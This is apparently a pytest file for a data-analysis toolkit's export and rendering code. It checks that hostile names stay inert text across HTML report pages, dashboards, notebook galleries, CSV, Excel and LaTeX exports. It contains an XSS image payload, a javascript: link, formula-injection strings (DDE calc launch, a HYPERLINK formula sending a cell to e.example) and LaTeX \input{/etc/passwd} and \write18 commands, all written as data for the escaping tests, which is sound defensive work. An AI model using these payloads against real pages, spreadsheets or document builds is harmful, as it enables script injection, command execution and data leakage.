"""Names that are code, on everything that a browser or a spreadsheet may open."""

import csv
import io
import tempfile
from html import escape, unescape
from pathlib import Path

import nbformat
import numpy as np
import pandas as pd
import pytest
import tomli_w
from browser import Watched, needs_browser, open_browser
from hypothesis import given
from hypothesis import strategies as st
from typer.testing import CliRunner

import volkit
from volkit.cli import app
from volkit.desk.dashboard import pages
from volkit.desk.gallery.facts import read_facts
from volkit.desk.gallery.pages import Card, render_index, render_notebook
from volkit.errors import ArgumentError
from volkit.report import TextBlock, render_report, to_html_table
from volkit.report.export import export_tables
from volkit.report.export_content import is_formula, shield_cells, unshield_cells
from volkit.report.html import ReportDocument, Section, TableBlock
from volkit.study.schemas import load_tables

IMAGE = "<img src=x onerror=alert(1)>"
SHOWN = escape(IMAGE)


def document():
    frame = pd.DataFrame({IMAGE: [IMAGE], "b": [1.0]}, index=pd.Index([IMAGE], name=IMAGE))
    table = TableBlock(frame=frame, caption=IMAGE, index=True)
    blocks = (TextBlock((IMAGE,)), table)
    section = Section(title=IMAGE, lead=IMAGE, blocks=blocks)
    return render_report(
        ReportDocument(title=IMAGE, question=IMAGE, answer=(IMAGE,), simulated=True, sections=(section,))
    )


def refusal():
    try:
        raise ArgumentError(IMAGE, IMAGE, IMAGE, IMAGE)
    except ArgumentError as error:
        return pages.failure_html("answer", str(error))


def bars():
    with tempfile.TemporaryDirectory() as folder:
        (Path(folder) / "a.csv").write_text("time,close\n2024-01-01,1\n2024-01-02,2\n")
        named = {"title": IMAGE, "unit": IMAGE, "kind": "crypto", "transform": "log", "calendar": "24/7"}
        entry = {**named, "close": {"rule": "step"}, "ids": {"files": {"1d": "a"}}}
        (Path(folder) / "series.toml").write_text(tomli_w.dumps({IMAGE: entry}))
        return volkit.open_source(f"files:{folder}").load_bars(IMAGE)._repr_html_()


def notebook_cells():
    """Markdown, a printed text, an error's text and a warning that hold the name; a table as pandas shows it."""
    shown = pd.DataFrame({IMAGE: [IMAGE]})._repr_html_()
    outputs = [
        nbformat.v4.new_output("stream", name="stdout", text=IMAGE),
        nbformat.v4.new_output("stream", name="stderr", text=IMAGE),
        nbformat.v4.new_output("execute_result", data={"text/plain": IMAGE}),
        nbformat.v4.new_output("execute_result", data={"text/markdown": IMAGE}),
        nbformat.v4.new_output("execute_result", data={"text/html": shown, "text/plain": "frame"}),
    ]
    code = nbformat.v4.new_code_cell(f"x = {IMAGE!r}", outputs=outputs)
    return nbformat.v4.new_notebook(
        cells=[
            nbformat.v4.new_markdown_cell(f"# Is {IMAGE} text?\n\n**Yes: {IMAGE}.** Simulated prices."),
            nbformat.v4.new_markdown_cell(f"## {IMAGE}\n\n{IMAGE} [a](javascript:alert(1))"),
            code,
        ]
    )


def gallery_page():
    notebook = notebook_cells()
    return render_notebook(notebook, read_facts("01_x", notebook), footer={IMAGE: IMAGE})


def gallery_index():
    facts = read_facts("01_x", notebook_cells())
    return render_index([Card(facts=facts, thumbnail=b"png", alt=IMAGE)], footer={IMAGE: IMAGE})


SURFACES = {
    "report page": document,
    "table": lambda: to_html_table(pd.DataFrame({IMAGE: [IMAGE]}, index=[IMAGE]), caption=IMAGE),
    "bars of a source": bars,
    "dashboard, empty": lambda: pages.empty_html("answer", IMAGE),
    "dashboard, failure": refusal,
    "dashboard, notes": lambda: pages.figure_html("schedule", Drawn(), [IMAGE], lead=IMAGE),
    "dashboard, downloads": lambda: pages.downloads_html([Offered()]),
    "gallery page": gallery_page,
    "gallery index": gallery_index,
}


class Drawn:
    """What a panel reads of a figure."""

    png = narrow_png = b"png"
    size = narrow_size = (1, 1)
    alt = caption = f'"{IMAGE}'


class Offered:
    """What a panel reads of a file to download."""

    href, words, size = "data:,", IMAGE, IMAGE
    name = f'"{IMAGE}'


@pytest.mark.parametrize("surface", SURFACES.values(), ids=SURFACES)
def test_a_name_that_is_code_is_text_on_every_page(surface):
    html = surface()

    assert "<img src=x" not in html.lower()
    assert 'href="javascript:' not in html.lower()
    assert "img src=x onerror" in unescape(unescape(html))


def test_report_of_a_run_shows_hostile_names_as_text(hostile_run):
    page = (hostile_run / "report.html").read_text()

    assert "<img src=x" not in page
    assert page.count(SHOWN) >= 3


@pytest.mark.browser
@pytest.mark.skipif(needs_browser[1].args[0], reason="no program named chromium on the path")
@pytest.mark.parametrize("policy", [True, False])
def test_nothing_of_a_hostile_name_runs_in_a_browser(hostile_run, tmp_path, policy):
    page_file = tmp_path / "report.html"
    text = (hostile_run / "report.html").read_text()
    # Also without the page's policy, which alone would stop a handler: the escaping has to hold by itself.
    page_file.write_text(text if policy else text.replace("Content-Security-Policy", "x-nothing"))
    with open_browser() as browser:
        watched, dialogs = Watched(browser.new_page()), []
        watched.page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        watched.page.add_init_script("window.fired = 0; window.alert = () => { window.fired += 1; };")
        watched.page.goto(page_file.as_uri(), wait_until="load")
        watched.page.evaluate("document.querySelectorAll('details').forEach(d => { d.open = true; })")
        watched.page.evaluate("document.querySelectorAll('th button').forEach(b => b.click())")

        assert IMAGE in watched.page.inner_text("body")
        assert dialogs == []
        assert watched.page.evaluate("window.fired") == 0
        assert watched.page.locator("img[src='x']").count() == 0
        assert watched.page.evaluate("[...document.querySelectorAll('*')].every(e => !e.hasAttribute('onerror'))")
        assert watched.outside == []


def test_the_browser_check_can_fail(tmp_path):
    html = document().replace(SHOWN, IMAGE)

    assert "<img src=x" in html


SIGNS = ["=", "+", "-", "@", "\t=", "\r=", "\n=", "\uff1d", "\uff0b", "\uff0d", "\uff20", " =", ";=", '"=']
PAYLOADS = ["1+1", "cmd|'/C calc'!A0", 'HYPERLINK("http://e.example?"&A1)', "SUM(1)", 'DDE("cmd";"/C calc";"x")']
FORMULAS = [sign + payload for sign in SIGNS for payload in PAYLOADS]


def test_no_cell_of_an_exported_table_begins_a_formula(tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    frame = pd.DataFrame({"name": FORMULAS, "n": np.arange(len(FORMULAS))}).rename(columns={"n": FORMULAS[0]})

    book = openpyxl.load_workbook(export_tables(frame, tmp_path / "t.xlsx"))
    text = export_tables(frame, tmp_path / "t.csv").read_text("utf-8-sig")
    latex = export_tables(frame, tmp_path / "t.tex").read_text()

    assert {cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row} <= {"s", "n"}
    assert not [c for row in csv.reader(io.StringIO(text)) for c in row if is_formula(c) and not c.isdigit()]
    assert not [c for line in text.splitlines() for c in line.split(";")[1:] if is_formula(c)]
    assert "\\input" not in latex and "\\write18" not in latex


@pytest.mark.parametrize(
    "command", [r"\input{/etc/passwd}", r"\write18{id}", r"\def\x{}", "$\\csname x$", "^^5cinput{x}"]
)
def test_commands_of_latex_are_text(tmp_path, command):
    latex = export_tables(pd.DataFrame({"name": [command]}), tmp_path / "t.tex").read_text()

    assert command not in latex
    assert "\\input" not in latex and "\\write" not in latex and "\\csname" not in latex and "^^" not in latex


def test_no_csv_of_a_run_begins_a_formula_and_names_come_back(hostile_run):
    files = [*(hostile_run / "tables").glob("*.csv"), hostile_run / "parameters.csv"]
    cells = [c for f in files for row in csv.reader(io.StringIO(f.read_text("utf-8"))) for c in row]
    by_csv, by_parquet = load_tables(hostile_run, form="csv"), load_tables(hostile_run)

    assert len(files) > 5 and any(c.startswith("'=cmd") for c in cells)
    assert not [c for c in cells if is_formula(c) and not is_number(c)]
    for name, block in by_parquet.items():
        pd.testing.assert_frame_equal(by_csv[name].frame, block.frame, check_exact=True)


def is_number(text):
    try:
        float(text)
    except ValueError:
        return False
    return True


@given(st.lists(st.text(alphabet="=+-@'; \t\n\r\"a\uff1d", max_size=6), min_size=1, max_size=4))
def test_shielded_texts_come_back_and_begin_no_formula(texts):
    frame = pd.DataFrame({"name": pd.Series(texts, dtype="object")})

    shielded = shield_cells(frame)

    assert unshield_cells(shielded)["name"].tolist() == texts
    for text in shielded["name"]:
        # A text that only begins with a tab or a line break holds no sign.
        assert not is_formula(text) or not set(text) & set("=+-@\uff1d") or text[0] in "\t\r\n"


def test_csv_of_margins_begins_no_formula(tmp_path):
    book = tmp_path / "book.csv"
    book.write_text("account,instrument,quantity\n\"=cmd|'/C calc'!A0\",BTC-PERPETUAL,1\n")
    out = tmp_path / "margins.csv"

    result = CliRunner().invoke(
        app, ["margin", str(book), "--spot", "BTC=60000", "--as-of", "2026-01-01", "--csv", str(out)]
    )

    if result.exit_code == 0:
        assert not [
            c for row in csv.reader(io.StringIO(out.read_text())) for c in row if is_formula(c) and not is_number(c)
        ]
    else:
        assert result.output.startswith("volkit:") and not out.exists()
